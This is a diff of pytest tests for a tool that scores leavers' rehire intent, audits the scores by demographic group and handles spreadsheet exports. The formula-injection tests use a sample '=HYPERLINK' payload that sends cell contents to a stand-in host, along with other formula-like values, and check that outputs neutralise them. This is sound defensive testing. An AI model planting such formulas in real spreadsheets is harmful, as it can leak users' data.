@@ -310,3 +310,214 @@ def test_summaries_in_japanese(leavers, tmp_path):
     assert "導入する施策" in simulated.stdout
     assert "カムバック制度（出戻り制度）" in simulated.stdout
     assert "因果効果が証明されたものではありません" in simulated.stderr
+
+
+def test_audit_writes_the_table_unknowns_and_drivers(tmp_path):
+    cohort = EXAMPLES / "leavers_audit.csv"
+    result = run("audit", cohort, "--by", "gender,age_band,race_ethnicity",
+                 "-o", tmp_path / "audit.csv", check_code=0)
+    names = sorted(p.name for p in tmp_path.iterdir())
+    assert names == ["audit.csv", "audit.drivers.csv", "audit.unknown.csv"]
+    expected = rm.audit(rm.load_model(), pd.read_csv(cohort, dtype={"leaver_id": str}),
+                        by=("gender", "age_band", "race_ethnicity"))
+    table = pd.read_csv(tmp_path / "audit.csv", keep_default_na=False, na_values=[""])
+    assert table[["target", "attribute", "group", "n"]].values.tolist() == (
+        expected.table[["target", "attribute", "group", "n"]].values.tolist())
+    np.testing.assert_allclose(table["impact_ratio_selection"],
+                               expected.table["impact_ratio_selection"], rtol=1e-9)
+    unknown = pd.read_csv(tmp_path / "audit.unknown.csv")
+    assert unknown.set_index("attribute").loc["race_ethnicity", "n_unknown"] == 11
+    lowest = expected.lowest_ratios().iloc[0]
+    assert "lowest impact ratio of the share selected: alumni engagement " in result.stderr
+    assert f"{lowest.impact_ratio_selection:.3f}" in result.stderr
+    assert "rows left out for wrong values: 0" in result.stderr
+
+
+def test_audit_to_a_workbook_in_japanese_with_rejects(tmp_path):
+    cohort = pd.read_csv(EXAMPLES / "leavers_audit.csv", dtype={"leaver_id": str})
+    cohort.loc[7, "company_size"] = "huge"
+    cohort.to_csv(tmp_path / "cohort.csv", index=False)
+    result = run("audit", tmp_path / "cohort.csv", "--by", "race_ethnicity,gender",
+                 "--reference", "race_ethnicity=A", "--no-intersections", "--lang", "ja",
+                 "-o", tmp_path / "audit.xlsx", check_code=0)
+    assert "299人を人種・民族、性別ごとに監査（値の誤りで除外 1行）" in result.stderr
+    sheets = pd.read_excel(tmp_path / "audit.xlsx", sheet_name=None)
+    assert list(sheets) == ["audit", "unknown", "drivers", "rejects"]
+    assert sheets["rejects"][["line", "column", "value"]].values.tolist() == [
+        [9, "company_size", "huge"]]
+    drivers = sheets["drivers"]
+    assert set(drivers.query("attribute == 'race_ethnicity'")["reference"]) == {"A"}
+    assert "歓迎の意思表示" in set(drivers["label"])
+    assert set(sheets["audit"]["attribute"]) == {"race_ethnicity", "gender"}
+
+
+@pytest.mark.parametrize(("args", "message"), [
+    (["--by", "gender,ethnicity"], "no column 'ethnicity'"),
+    (["--by", "race_ethnicity", "--reference", "race_ethnicity=Z"],
+     "reference group 'Z' of 'race_ethnicity'"),
+    (["--by", "gender", "--reference", "gender"], "expected ATTRIBUTE=GROUP"),
+])
+def test_audit_arguments_that_cannot_work_exit_2(tmp_path, args, message):
+    result = run("audit", EXAMPLES / "leavers_audit.csv", *args, "-o", tmp_path / "a.csv",
+                 check_code=2)
+    assert message in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_audit_refuses_to_replace_files(tmp_path):
+    (tmp_path / "a.drivers.csv").write_text("kept", encoding="utf-8")
+    result = run("audit", EXAMPLES / "leavers_audit.csv", "--by", "gender", "-o",
+                 tmp_path / "a.csv", check_code=2)
+    assert "already exists" in result.stderr
+    assert (tmp_path / "a.drivers.csv").read_text(encoding="utf-8") == "kept"
+
+
+def test_report_audits_the_columns_asked_for(tmp_path):
+    run("report", "--data", EXAMPLES / "leavers_audit.csv", "-o", tmp_path / "r.html",
+        "--audit-by", "race_ethnicity,gender", check_code=0)
+    page = (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert 'data-audit="race_ethnicity x gender"' in page and "<h3>Race/ethnicity</h3>" in page
+
+
+# --------------------------------------------------------------------------------------
+# Spreadsheet exports in and out
+# --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("sep", "encoding", "name"), [
+    (";", "utf-8-sig", "semicolons.csv"),  # Excel in many European locales
+    ("\t", "utf-16", "unicode.txt"),  # Excel's "Unicode text"
+])
+def test_score_an_excel_export_with_its_separator_and_encoding(leavers, tmp_path, sep,
+                                                               encoding, name):
+    data = pd.read_csv(leavers, dtype={"leaver_id": str})
+    data.to_csv(tmp_path / name, sep=sep, index=False, encoding=encoding)
+    result = run("score", tmp_path / name, "-o", tmp_path / "out.csv", check_code=0)
+    assert "read 400 rows: scored 400, rejected 0" in result.stderr
+    out = pd.read_csv(tmp_path / "out.csv", dtype={"leaver_id": str})
+    expected = rm.load_model().predict(data)
+    assert out["leaver_id"].tolist() == expected["leaver_id"].tolist()
+    np.testing.assert_allclose(out["p_rehire_intent"], expected["p_rehire_intent"],
+                               rtol=1e-12)
+
+
+def test_a_semicolon_file_read_with_commas_explains_itself(leavers, tmp_path):
+    pd.read_csv(leavers).to_csv(tmp_path / "in.csv", sep=";", index=False)
+    for command in (["score", tmp_path / "in.csv", "-o", tmp_path / "out.csv"],
+                    ["validate", tmp_path / "in.csv"]):
+        result = run(*command, "--sep", ",", check_code=2)
+        assert ("the table has one column, whose name contains ';': the file looks "
+                "';'-separated; pass --sep ';'") in result.stderr
+    assert not (tmp_path / "out.csv").exists()
+    run("validate", tmp_path / "in.csv", "--sep", ";", check_code=0)
+    assert "unknown separator '|'" in run("validate", tmp_path / "in.csv", "--sep", "|",
+                                          check_code=2).stderr
+
+
+FORMULAS = {"leaver_id": '=HYPERLINK("http://x.test/?"&A1,"click")', "note": "+1-555",
+            "note2": "-2+3", "note3": "@SUM(A1)", "company_size": "=1+1"}
+
+
+def _formula_file(path):
+    """50 leavers of the sample with five formula-like values; line 6 is rejected."""
+    data = pd.read_csv(EXAMPLES / "leavers_sample.csv", dtype=str,
+                       keep_default_na=False).head(50)
+    data["note"] = ""
+    data.loc[0, "leaver_id"] = FORMULAS["leaver_id"]
+    data.loc[1, "note"] = FORMULAS["note"]
+    data.loc[2, "note"] = FORMULAS["note2"]
+    data.loc[3, "note"] = FORMULAS["note3"]
+    data.loc[4, "company_size"] = FORMULAS["company_size"]
+    data.to_csv(path, index=False)
+
+
+def _formula_cells(*paths):
+    import csv
+    import re
+
+    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
+    cells = []
+    for path in paths:
+        with open(path, encoding="utf-8", newline="") as f:
+            cells += [cell for row in csv.reader(f) for cell in row
+                      if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+                      and not number.fullmatch(cell)]
+    return cells
+
+
+def test_no_csv_output_cell_runs_as_a_formula_unless_raw_text(tmp_path):
+    _formula_file(tmp_path / "f.csv")
+    run("score", tmp_path / "f.csv", "-o", tmp_path / "s.csv", "--keep", "note",
+        check_code=1)
+    run("validate", tmp_path / "f.csv", "--report", tmp_path / "p.csv", check_code=1)
+    assert _formula_cells(tmp_path / "s.csv", tmp_path / "s.csv.rejects.csv",
+                          tmp_path / "p.csv") == []
+    scores = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
+    assert scores["leaver_id"].iloc[0] == "'" + FORMULAS["leaver_id"]
+    assert scores["note"].tolist()[1:4] == ["'+1-555", "'-2+3", "'@SUM(A1)"]
+    run("score", tmp_path / "f.csv", "-o", tmp_path / "raw.csv", "--keep", "note",
+        "--raw-text", check_code=1)
+    run("validate", tmp_path / "f.csv", "--report", tmp_path / "raw_p.csv", "--raw-text",
+        check_code=1)
+    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
+    assert raw["leaver_id"].iloc[0] == FORMULAS["leaver_id"]
+    assert raw["note"].tolist()[1:4] == ["+1-555", "-2+3", "@SUM(A1)"]
+    for name in ("raw.csv.rejects.csv", "raw_p.csv"):
+        rejects = pd.read_csv(tmp_path / name, dtype=str)
+        assert rejects[["line", "value"]].values.tolist() == [["6", "=1+1"]]
+    run("validate", tmp_path / "f.csv", "--report", tmp_path / "p.xlsx", check_code=1)
+    run("score", tmp_path / "f.csv", "-o", tmp_path / "s.xlsx", "--keep", "note",
+        check_code=1)
+    assert _formula_cells_xlsx(tmp_path / "p.xlsx", tmp_path / "s.xlsx") == []
+    assert pd.read_excel(tmp_path / "p.xlsx")["value"].tolist() == ["=1+1"]  # exact
+    scores = pd.read_excel(tmp_path / "s.xlsx", sheet_name="scores", dtype=str)
+    assert scores["leaver_id"].iloc[0] == FORMULAS["leaver_id"]
+
+
+def _formula_cells_xlsx(*paths):
+    import openpyxl
+
+    return [cell.value for path in paths for ws in openpyxl.load_workbook(path).worksheets
+            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def test_simulate_writes_a_table_with_or_without_raw_text(tmp_path):
+    _formula_file(tmp_path / "f.csv")
+    data = pd.read_csv(tmp_path / "f.csv", dtype=str, keep_default_na=False)
+    data.drop(index=4).to_csv(tmp_path / "valid.txt", sep="\t", index=False,
+                              encoding="utf-16")
+    for extra in ([], ["--raw-text"]):
+        run("simulate", tmp_path / "valid.txt", "-o", tmp_path / "sim.csv", "--bootstrap", 20,
+            "--no-pairs", *extra, check_code=0)
+        assert _formula_cells(tmp_path / "sim.csv") == []
+        assert len(pd.read_csv(tmp_path / "sim.csv")) >= 1
+    run("simulate", tmp_path / "valid.txt", "-o", tmp_path / "sim.xlsx", "--bootstrap", 20,
+        "--no-pairs", check_code=0)
+    assert _formula_cells_xlsx(tmp_path / "sim.xlsx") == []
+
+
+def test_init_config_reads_unicode_text_as_the_comma_file(tmp_path):
+    data = pd.read_csv(EXAMPLES / "leavers_sample.csv", dtype={"leaver_id": str})
+    data.to_csv(tmp_path / "comma.csv", index=False)
+    data.to_csv(tmp_path / "unicode.txt", sep="\t", index=False, encoding="utf-16")
+    run("init-config", tmp_path / "comma.csv", "-o", tmp_path / "a.toml", check_code=0)
+    run("init-config", tmp_path / "unicode.txt", "--sep", "tab", "-o", tmp_path / "b.toml",
+        check_code=0)
+    drafts = [(tmp_path / name).read_text(encoding="utf-8").split("\n", 1)[1]
+              for name in ("a.toml", "b.toml")]
+    assert drafts[0] == drafts[1]
+
+
+def test_audit_reads_a_semicolon_export_and_writes_no_formula(tmp_path):
+    cohort = pd.read_csv(EXAMPLES / "leavers_audit.csv", dtype={"leaver_id": str})
+    cohort["team"] = np.where(np.arange(len(cohort)) % 2 == 0, '=HYPERLINK("http://x.test")',
+                              "@sales")
+    cohort.to_csv(tmp_path / "cohort.csv", index=False, sep=";")
+    run("audit", tmp_path / "cohort.csv", "--by", "team", "-o", tmp_path / "safe.csv",
+        check_code=0)
+    safe = pd.read_csv(tmp_path / "safe.csv", dtype=str)
+    assert set(safe["group"]) == {"'=HYPERLINK(\"http://x.test\")", "'@sales"}
+    run("audit", tmp_path / "cohort.csv", "--by", "team", "--sep", ";", "--raw-text",
+        "-o", tmp_path / "raw.csv", check_code=0)
+    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str)
+    assert set(raw["group"]) == {'=HYPERLINK("http://x.test")', "@sales"}
